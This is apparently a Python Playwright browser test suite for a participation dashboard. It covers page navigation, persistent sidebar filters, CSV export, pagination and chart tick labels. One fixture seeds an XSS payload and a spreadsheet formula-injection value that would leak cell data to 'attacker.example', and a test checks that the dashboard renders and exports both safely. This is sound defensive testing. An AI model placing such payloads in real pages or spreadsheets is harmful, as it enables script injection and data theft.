"""The dashboard in a real browser (Debian's chromium, Playwright): navigation, filters that
persist across pages, the CSV download, hostile names shown as text, a screenshot of every page."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from ruche import store
from tests.browser_support import CHROMIUM, browser_page, screenshot, served, wait_for_app, wait_for_charts

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not os.path.exists(CHROMIUM) and not os.environ.get("CI"),
                       reason="needs Debian's chromium (apt-get install chromium); CI installs it"),
]

DEMO_CONFIG = str(Path(__file__).resolve().parents[1] / "dashboard" / "demo.toml")
# (link in the navigation, text that shows the page is drawn, charts it draws, screenshot name)
PAGES = [
    ("Overview", "Participation rate", 3, "overview"),
    ("Organisation", "Sub-organisations", 2, "organisation"),
    ("Participation", "Ranking", 5, "participation"),
    ("Contributors", "Gini coefficient", 3, "contributors"),
    ("Network", "Modularity", 3, "network"),
    ("Communities", "Every community", 4, "communities"),
    ("Teams at risk", "flagged", 0, "teams-at-risk"),
    ("Data", "Rejected rows", 0, "data"),
]


def choose(page, label: str, option: str) -> None:
    """Pick ``option`` in the sidebar selectbox labelled ``label``."""
    page.locator("section[data-testid='stSidebar']").get_by_role("combobox", name=label, exact=True).click()
    page.get_by_role("option", name=option, exact=True).click()


def selected(page, label: str) -> str:
    return page.locator("section[data-testid='stSidebar']").get_by_role(
        "combobox", name=label, exact=True).input_value()


def test_every_page_through_the_navigation_with_filters_kept(sample_store):
    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
        page.goto(url)
        wait_for_app(page, "Participation rate")
        choose(page, "Group by", "site")
        wait_for_app(page, "Participation rate")
        choose(page, "Group", "Paris")
        wait_for_app(page, "site Paris")
        for link, marker, charts, name in PAGES:
            page.locator("[data-testid='stSidebarNav']").get_by_text(link, exact=True).click()
            wait_for_app(page, marker)
            if charts:
                wait_for_charts(page, charts)
            assert selected(page, "Group") == "Paris", f"the group filter was lost on {link}"
            assert selected(page, "Group by") == "site", f"the group-by filter was lost on {link}"
            screenshot(page, f"page-{name}-paris")


def test_a_screenshot_of_every_page_of_the_demo(sample_store):
    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
        for link, marker, charts, name in PAGES:
            page.goto(url if name == "overview" else f"{url}/{name}")
            wait_for_app(page, marker)
            if charts:
                wait_for_charts(page, charts)
            assert "Traceback" not in page.inner_text("body")
            screenshot(page, f"page-{name}")


def test_the_teams_csv_download(sample_store):
    with served(sample_store) as url, browser_page() as page:
        page.goto(f"{url}/teams-at-risk")
        wait_for_app(page, "flagged")
        with page.expect_download() as download:
            page.get_by_role("button", name="Download as CSV").click()
        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
        assert {"Inside Sales London 1", "Controlling Paris 3"} <= {r["team"] for r in rows}
        assert rows[0].keys() >= {"team", "department", "people", "why", "flagged_since", "last_contribution"}
        # every flagged team, once, the most people first; never "None"
        assert len(rows) == len({r["team"] for r in rows}) == 63
        assert [int(r["people"]) for r in rows] == sorted((int(r["people"]) for r in rows), reverse=True)
        assert "None" not in {r["last_contribution"] for r in rows} and "" not in {r["last_contribution"] for r in rows}
        assert rows[0]["last_contribution"] == "never"


def test_the_teams_worklist_pages_through_every_team(sample_store):
    with served(sample_store) as url, browser_page() as page:
        page.goto(f"{url}/teams-at-risk")
        wait_for_app(page, "63 teams flagged")
        assert "Teams 1–25 of 63." in page.inner_text("body")
        page.get_by_label("Page (of 3)").fill("3")
        page.get_by_label("Page (of 3)").press("Enter")
        wait_for_app(page, "Teams 51–63 of 63.")
        assert "Changes since the last period" in page.inner_text("body")
        screenshot(page, "teams-worklist-page-3")


def test_the_communities_page_in_a_browser(sample_store):
    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
        page.goto(f"{url}/communities")
        wait_for_app(page, "Every community")
        wait_for_charts(page, 5)
        body = page.inner_text("body")
        assert "Traceback" not in body
        for text in ("Communities", "63", "Idle", "25.3 h", "68.0%", "Health score parts and weights",
                     "No listed community is idle (2 idle in all, listed or not).", "Onboarding funnel",
                     "Cohorts by month of arrival"):
            assert text in body, text
        # the lifecycle chart says how many of the lapsed were the period before's newcomers
        from metrics.figures import Live, Query, figure

        con = store.connect(sample_store, read_only=True)
        life = figure(Live(con), Query("lifecycle", by="organisation", period="month", min_group_size=5))
        con.close()
        n, lapsed, newcomers = (life.reading(c) for c in ("new", "lapsed", "lapsed_newcomers"))
        assert (newcomers.period, n.value, lapsed.value, newcomers.value) == ("2026-10", 3, 1, 0)
        title = (f"{n.value:,} new and {lapsed.value:,} lapsed contributors in 2026-10 ({newcomers.value:,} of "
                 "them newcomers the period before)")
        assert page.locator("svg text", has_text=title).count() == 1, title
        screenshot(page, "communities")


HOSTILE_DEPARTMENT = "<img src=x onerror=alert(1)>"
HOSTILE_TEAM = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def hostile_store(tmp_path) -> Path:
    """Twelve people whose department and team names are hostile, none of them active lately."""
    db = tmp_path / "hostile.duckdb"
    with store.writing(db) as con:
        con.execute(
            "insert into people (person_key, person_id, in_directory, department, team) "
            "select i, 'p' || i, true, case when i <= 6 then ? else 'Sales' end, "
            "case when i <= 6 then ? else 'Desk' end from range(1, 13) t(i)",
            [HOSTILE_DEPARTMENT, HOSTILE_TEAM],
        )
        con.execute(
            "insert into activities (activity_uid, source, occurred_at, person_key, kind, target_key, run_id) "
            "select i, 't', timestamp '2026-01-05' + i * interval 1 day, i, 'post', null, 1 from range(1, 13) t(i) "
            "union all select 100 + i, 't', timestamp '2026-03-02', 8, 'reply', i, 1 from range(1, 7) t(i)"
        )
        # and a community named like the department, where all of them posted
        con.execute("insert into spaces (space_key, source, space_ref, name, kind, is_private) "
                    "values (1, 't', 's1', ?, 'group', false)", [HOSTILE_DEPARTMENT])
        con.execute("update activities set space_key = 1, thread_ref = 'th' || activity_uid where kind = 'post'")
    return db


def test_hostile_names_are_shown_as_text_and_exported_neutralised(hostile_store):
    with served(hostile_store) as url, browser_page() as page:
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(f"{url}/participation")
        wait_for_app(page, "Ranking")
        wait_for_charts(page, 2)
        assert page.locator("img[src='x']").count() == 0
        assert HOSTILE_DEPARTMENT in page.locator(".js-plotly-plot").first.inner_text()
        page.goto(f"{url}/teams-at-risk")
        wait_for_app(page, "flagged")
        with page.expect_download() as download:
            page.get_by_role("button", name="Download as CSV").click()
        text = Path(download.value.path()).read_text()
        rows = list(csv.DictReader(io.StringIO(text)))
        assert "'" + HOSTILE_TEAM in [r["team"] for r in rows]
        assert not any(r["team"].startswith("=") for r in rows)
        page.goto(f"{url}/communities")
        wait_for_app(page, "Every community")
        assert page.locator("img[src='x']").count() == 0 and "Traceback" not in page.inner_text("body")
        page.goto(f"{url}/network")
        wait_for_app(page, "Modularity")
        wait_for_charts(page, 1)
        assert page.locator("img[src='x']").count() == 0
        screenshot(page, "hostile-network")
        assert dialogs == []


def test_no_drawn_chart_repeats_a_tick_label(sample_store):
    """The tick labels plotly draws in the browser, on every chart of the pages with rates: none
    repeats (a retention axis cut to 98.6%..100% drew 100%, 100%, 99%, 99%), by month and by week,
    for the organisation and for one group."""
    with served(sample_store, {"RUCHE_CONFIG": DEMO_CONFIG}) as url, browser_page() as page:
        page.goto(url)
        wait_for_app(page, "Participation rate")
        for grain, group in (("month", None), ("week", "Logistics")):
            if grain != "month":  # on the Overview again, then the filters
                page.locator("[data-testid='stSidebarNav']").get_by_text("Overview", exact=True).click()
                wait_for_app(page, "Participation rate")
                choose(page, "Period grain", grain)
                wait_for_app(page, "Participation rate")
            if group:
                choose(page, "Group", group)
                wait_for_app(page, f"department {group}")
            for link, marker, charts, name in PAGES[:6]:  # the pages with rates, Communities included
                page.locator("[data-testid='stSidebarNav']").get_by_text(link, exact=True).click()
                wait_for_app(page, marker)
                wait_for_charts(page, 1 if group else charts)
                # a chart with axes may be drawn after one without (the group graph)
                page.wait_for_function("() => document.querySelector('.js-plotly-plot g.xtick text, "
                                       ".js-plotly-plot g.ytick text') !== null", timeout=60_000)
                axes = page.evaluate(
                    "() => [...document.querySelectorAll('.js-plotly-plot')].flatMap(plot =>"
                    " ['xtick', 'ytick'].map(kind => [...plot.querySelectorAll('g.' + kind + ' text')]"
                    ".map(t => t.textContent)))")
                assert any(axes), f"no tick drawn on {link} ({grain}, {group})"
                for labels in axes:
                    assert len(labels) == len(set(labels)), (link, grain, group, labels)
